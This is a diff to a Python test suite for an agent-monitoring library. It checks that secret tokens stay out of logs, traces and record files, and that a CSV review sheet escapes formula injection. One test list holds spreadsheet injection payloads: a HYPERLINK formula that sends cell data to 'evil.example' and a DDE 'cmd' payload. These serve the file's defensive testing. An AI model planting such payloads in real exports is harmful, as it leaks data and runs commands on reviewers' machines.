@@ -13,6 +13,8 @@ file an exporter wrote. Then it checks that opt-in capture applies redaction and
 from __future__ import annotations
 
 import contextlib
+import csv
+import functools
 import io
 import json
 import logging
@@ -29,7 +31,22 @@ from opentelemetry.sdk.trace import TracerProvider
 from opentelemetry.sdk.trace.export import SimpleSpanProcessor
 from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
 
-from prefixmon import Deny, Edit, Grounded, Monitor, Policy, Ref, Replan, ToolBlocked, ToolCall, Toolset, TrackedState, Verdict
+from prefixmon import (
+    Deny,
+    Edit,
+    Grounded,
+    JsonlSink,
+    Monitor,
+    Policy,
+    Precondition,
+    Ref,
+    Replan,
+    ToolBlocked,
+    ToolCall,
+    Toolset,
+    TrackedState,
+    Verdict,
+)
 from prefixmon import semconv as sc
 from prefixmon.logging import LiveLog, configure_json_logging
 from prefixmon.otel_setup import OtlpJsonFileSpanExporter
@@ -254,6 +271,115 @@ class TestDefaultsSendNothing:
         assert CANARY not in text
 
 
+def keyed_rule(state: TrackedState, args: Any, api_key: str) -> bool:
+    """the account service must accept the key"""
+    raise ConnectionError("service down")
+
+
+def keyed_effect(state: TrackedState, args: Any, result: Any, api_key: str) -> None:
+    raise ConnectionError("service down")
+
+
+class KeyedCallable:
+    """A callable object whose repr shows the key it holds (as API clients' reprs often do)."""
+
+    def __init__(self, api_key: str) -> None:
+        self.api_key = api_key
+
+    def __call__(self, *args: Any) -> Any:
+        raise ConnectionError("service down")
+
+    def __repr__(self) -> str:
+        return f"KeyedCallable(api_key={self.api_key!r})"
+
+
+class Forwarding:
+    """A callable proxy whose ``__getattr__`` answers any attribute (``__name__`` included) from its config."""
+
+    def __init__(self, url: str) -> None:
+        self._url = url
+
+    def __getattr__(self, name: str) -> str:
+        return f"{name} at {self._url}"
+
+    def __call__(self, *args: Any) -> Any:
+        raise ConnectionError("service down")
+
+
+class TestFaultsNamedWithoutReprs:
+    """A rule without a ``__name__`` is named by its function or type, never by its repr (which may hold a key)."""
+
+    def _tools(self) -> Toolset:
+        tools = Toolset()
+        secret_url = f"https://api.example/v1?token={CANARY}"
+
+        @tools.tool(requires=[functools.partial(keyed_rule, api_key=CANARY)])
+        def partial_rule() -> str:
+            return "ok"
+
+        @tools.tool(effects=[functools.partial(keyed_effect, api_key=CANARY)])
+        def partial_effect() -> str:
+            return "ok"
+
+        @tools.tool(requires=[KeyedCallable(CANARY)], effects=[KeyedCallable(CANARY)], error_result=KeyedCallable(CANARY))
+        def object_rules() -> str:
+            return "ok"
+
+        @tools.tool(requires=[Forwarding(secret_url)], effects=[Forwarding(secret_url)])
+        def forwarding_rules() -> str:
+            return "ok"
+
+        @tools.tool(requires=[Precondition(check=KeyedCallable(CANARY))])
+        def unnamed_precondition() -> str:
+            return "ok"
+
+        return tools
+
+    @pytest.mark.parametrize("failure_mode", ["fail_open", "fail_closed"])
+    async def test_no_repr_reaches_any_channel(self, channels: Channels, failure_mode: Any) -> None:
+        """Fault locations in the log line, span events, metrics and the OTLP file name the function or type only."""
+        monitor = Monitor(self._tools(), observers=channels.observers(), failure_mode=failure_mode)
+        async with monitor.episode(task_id="t") as ep:
+            for name in ("partial_rule", "partial_effect", "object_rules", "forwarding_rules", "unnamed_precondition"):
+                with contextlib.suppress(ToolBlocked):
+                    await ep.call(name)
+        text = channels.text()
+        assert CANARY not in text and "api.example" not in text
+        wheres = [json.loads(line)["where"] for line in channels.log_stream.getvalue().splitlines() if '"where"' in line]
+        expected = [
+            "precondition keyed_rule of partial_rule",
+            "effect keyed_effect of partial_effect",
+            "precondition KeyedCallable of object_rules",
+            "error_result of object_rules",
+            "effect KeyedCallable of object_rules",
+            "precondition Forwarding of forwarding_rules",
+            "effect Forwarding of forwarding_rules",
+            "precondition KeyedCallable of unnamed_precondition",
+        ]
+        if failure_mode == "fail_closed":  # a faulty precondition blocks the call: it never runs
+            expected = [w for w in expected if w.endswith(("partial_rule", "partial_effect")) or w.startswith("precondition")]
+        assert wheres == expected
+        assert monitor.stats.internal_errors == len(expected)
+
+    async def test_a_partial_precondition_fails_with_its_function_s_message(self) -> None:
+        """The default message of a partial precondition is its function's docstring, not functools.partial's."""
+        tools = Toolset()
+
+        def account_open(state: TrackedState, args: Any, api_key: str) -> bool:
+            """the account must be open"""
+            return False
+
+        @tools.tool(requires=[functools.partial(account_open, api_key=CANARY)])
+        def withdraw() -> str:
+            return "ok"
+
+        monitor = Monitor(tools, policy="block")
+        async with monitor.episode(task_id="t") as ep:
+            with pytest.raises(ToolBlocked, match=r"withdraw: the account must be open$"):
+                await ep.call("withdraw")
+        assert ep.record is not None and CANARY not in json.dumps(str(ep.record))
+
+
 class TestOptInCapture:
     """capture_content records values, through redaction and a size cap."""
 
@@ -337,3 +463,144 @@ class TestOptInCapture:
         lines = [json.loads(line) for line in channels.log_stream.getvalue().splitlines()]
         reasons = [e["reason"] for e in lines if "reason" in e]
         assert reasons and all(CANARY in r and len(r) < 500 for r in reasons)
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tindent", "\rreturn"]
+
+
+class TestReviewSheetFormulaInjection:
+    """The review sheet's cells that a model or a tool wrote cannot start a spreadsheet formula."""
+
+    def _records(self) -> list[Any]:
+        from datetime import UTC, datetime
+
+        from prefixmon.records import ActionRecord, build_record
+        from prefixmon.vocabulary import Cause, Outcome
+
+        now = datetime(2026, 1, 1, tzinfo=UTC)
+        out = []
+        for i, text in enumerate(FORMULAS):
+            action = ActionRecord(depth=1, tool=text, executable=False, cause=Cause.SCHEMA, reason=text)
+            out.append(
+                build_record(
+                    episode_id=text if i % 2 and not text[0].isspace() else f"ep-{i}",  # (annotation ids are stripped)
+                    task_id="-1" if i % 2 else text,
+                    labels={"model": text},
+                    actions=[action],
+                    outcome=Outcome.FAILURE,
+                    started_at=now,
+                    ended_at=now,
+                )
+            )
+        return out
+
+    def test_cells_are_escaped_and_read_back(self, tmp_path: Path) -> None:
+        """Cells starting with = + - @ tab or CR get a leading apostrophe; the filled sheet reads back unescaped."""
+        from prefixmon.analytics import build_report, columns_from_records, read_annotations, review_sample, write_review_sheet
+
+        records = self._records()
+        path = tmp_path / "review.csv"
+        write_review_sheet(path, review_sample(columns_from_records(records), seed=0))
+        with path.open(encoding="utf-8", newline="") as f:
+            rows = list(csv.reader(f))
+        cells = [c for row in rows[1:] for c in row]
+        assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        by_id = {row[0]: row for row in rows[1:]}
+        assert "'" + FORMULAS[1] in by_id and "'-1" in by_id["'" + FORMULAS[1]]
+        header = rows[0]
+        for row in rows[1:]:
+            row[header.index("attribution")] = "model"
+        with path.open("w", encoding="utf-8", newline="") as f:
+            csv.writer(f).writerows(rows)
+        notes = read_annotations(path)
+        assert sorted(n.episode_id or "" for n in notes) == sorted(r.episode_id for r in records)
+        report = build_report(records, bootstrap=0, annotations=notes)
+        assert sum(c.attribution.counts["model"] for c in report.cohorts if c.attribution is not None) == len(records)
+
+    def test_an_apostrophe_a_value_starts_with_survives(self, tmp_path: Path) -> None:
+        """A value that itself starts with an apostrophe is written so that it reads back unchanged."""
+        from prefixmon.analytics import read_annotations
+        from prefixmon.analytics.completion import _escape_cell, _unescape_cell
+
+        for value in ["'quoted", "''", "'=x", "plain", "", "=x", "-1"]:
+            assert _unescape_cell(_escape_cell(value)) == value
+        path = tmp_path / "notes.csv"
+        path.write_text("episode_id,attribution,note\n'=e1,tool,'hi\n", encoding="utf-8")
+        (note,) = read_annotations(path)
+        assert note.episode_id == "=e1" and note.note == "'hi"  # a reviewer's own apostrophe before 'h' stays
+
+
+class TestRecordRedaction:
+    """Records keep model-readable reasons and tool error text; JsonlSink(redact=...) masks or drops them before writing."""
+
+    async def _run(self, monitor: Monitor) -> Any:
+        async with monitor.episode(task_id="t", labels={"model": "m"}) as ep:
+            ep.user("pay 1.5")
+            calls: list[tuple[str, dict[str, Any]]] = [
+                ("transfer", {"account_id": CANARY, "memo": "x"}),  # the reason quotes the value
+                ("pay", {"phone": CANARY, "amount": 1.5}),
+            ]
+            for name, args in calls:
+                with contextlib.suppress(ToolBlocked):
+                    await ep.call(name, args)
+            await ep.call("fetch", {"key": CANARY})  # error-result text
+            with contextlib.suppress(PermissionError):
+                await ep.call("explode", {"key": CANARY})  # exception text
+            ep.finish("failure")
+        return ep
+
+    async def test_what_records_hold_by_default(self, tmp_path: Path) -> None:
+        """Without a hook the record file quotes argument values and error text (documented in docs/security.md)."""
+        path = tmp_path / "plain.jsonl"
+        monitor = Monitor(secret_tools(), policy="block", sink=path)
+        await self._run(monitor)
+        assert isinstance(monitor.sink, JsonlSink) and monitor.sink.flush(5)
+        assert CANARY in path.read_text(encoding="utf-8")
+
+    async def test_patterns_are_masked_and_metrics_unchanged(self, tmp_path: Path) -> None:
+        """record_redactor masks the pattern in every free-text field; causes, depths, FED and outcome are the same."""
+        from prefixmon import read_records
+        from prefixmon.redaction import record_redactor
+
+        plain, masked = tmp_path / "plain.jsonl", tmp_path / "masked.jsonl"
+        await self._run(Monitor(secret_tools(), policy="block", sink=plain))
+        sink = JsonlSink(masked, redact=record_redactor(r"CANARY-[\w-]+"))
+        ep = await self._run(Monitor(secret_tools(), policy="block", sink=sink))
+        sink.close()
+        text = masked.read_text(encoding="utf-8")
+        assert CANARY not in text and text.count("[REDACTED]") >= 4
+        (a,), (b,) = read_records(plain), read_records(masked)
+        assert (a.fed, a.horizon, a.outcome, a.executable) == (b.fed, b.horizon, b.outcome, b.executable)
+        assert [(x.cause, x.decision, x.tool) for x in a.actions] == [(x.cause, x.decision, x.tool) for x in b.actions]
+        assert ep.record is not None and CANARY in json.dumps(str(ep.record))  # in memory the record is whole
+
+    async def test_drop_text(self, tmp_path: Path) -> None:
+        """drop_text removes reasons and error text altogether."""
+        from prefixmon import read_records
+        from prefixmon.redaction import record_redactor
+
+        path = tmp_path / "dropped.jsonl"
+        with JsonlSink(path, redact=record_redactor(drop_text=True)) as sink:
+            await self._run(Monitor(secret_tools(), policy="block", sink=sink))
+        (rec,) = read_records(path)
+        assert all(a.reason is None and a.error is None for a in rec.actions)
+        assert rec.first_failure is not None and rec.first_failure.reason == "" and rec.first_failure.cause is not None
+        with pytest.raises(ValueError, match="patterns"):
+            record_redactor()
+
+    @pytest.mark.parametrize("hook", ["raises", "returns a dict"])
+    async def test_a_failing_hook_loses_the_record_never_writes_it_unredacted(self, tmp_path: Path, hook: str) -> None:
+        """A hook that raises or returns something else: the record is counted lost and logged, nothing is written."""
+
+        def redact(record: Any) -> Any:
+            if hook == "raises":
+                raise RuntimeError("redactor bug")
+            return {"episode_id": record.episode_id}
+
+        path = tmp_path / "r.jsonl"
+        monitor = Monitor(secret_tools(), policy="block", sink=JsonlSink(path, redact=redact))
+        await self._run(monitor)
+        assert monitor.stats.records_lost == 1 and monitor.stats.sink_errors == 1
+        assert not path.exists() or path.read_text(encoding="utf-8") == ""
+        with pytest.raises(TypeError, match="callable"):
+            JsonlSink(tmp_path / "x.jsonl", redact="mask")  # type: ignore[arg-type]
